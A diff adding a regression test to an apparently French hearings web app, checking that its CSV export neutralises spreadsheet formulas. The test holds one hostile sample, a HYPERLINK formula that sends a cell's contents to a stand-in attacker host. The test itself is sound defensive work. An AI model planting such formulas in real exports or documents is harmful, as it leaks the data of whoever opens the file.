@@ -118,3 +118,14 @@ def test_calendar_is_valid_icalendar_without_declined_invitations(client, hearin
     assert str(joint["UID"]).startswith(f"audition-{hearings['joint'].pk}@")
     filtered = icalendar.Calendar.from_ical(client.get("/auditions/calendar.ics?statut=prevue").content)
     assert [str(event["SUMMARY"]) for event in filtered.walk("VEVENT")] == ["Audition de la bibliothèque"]
+
+
+def test_csv_export_cells_cannot_run_as_formulas(client, hearings):
+    """Issue 18, failure 4: an imported title such as =HYPERLINK(...) came out raw."""
+    title = '=HYPERLINK("https://evil.example/?leak="&B2,"Cliquez")'
+    joint = hearings["joint"]
+    joint.title = title
+    joint.save_revision().publish()
+    content = client.get("/auditions/export.csv").content.decode("utf-8-sig")
+    titles = [r["titre"] for r in csv.DictReader(io.StringIO(content))]
+    assert "'" + title in titles and title not in titles
